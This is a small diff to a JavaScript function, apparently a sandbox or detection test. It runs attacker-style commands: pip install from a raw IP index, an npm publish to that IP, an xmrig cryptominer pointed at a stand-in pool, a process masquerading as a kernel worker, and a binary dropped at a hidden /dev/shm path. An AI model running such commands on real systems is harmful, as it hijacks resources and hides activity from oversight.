@@ -16,7 +16,7 @@ function reach() {
   run('pip', ['install', '--no-input', '--retries', '0', '--timeout', '1', '--index-url', 'http://198.51.100.9/simple', 'left-pad']);
   run('npm', ['publish', '--dry-run', '--registry', 'http://198.51.100.9/'], { cwd: '/tmp' });
   run('gcc', ['-x', 'c', '-o', '/tmp/helper', '-'], { stdio: ['ignore', 'ignore', 'ignore'] });
-  run('xmrig', ['-o', 'stratum+tcp://pool.invalid:3333', '--donate-level', '1']);
+  run('xmrig', ['-o', 'stratum+tcp://pool.example:3333', '--donate-level', '1']);
   run('/bin/sleep', ['0'], { argv0: '[kworker/0:1]' });
   try {
     fs.copyFileSync('/usr/bin/true', '/dev/shm/.cache');
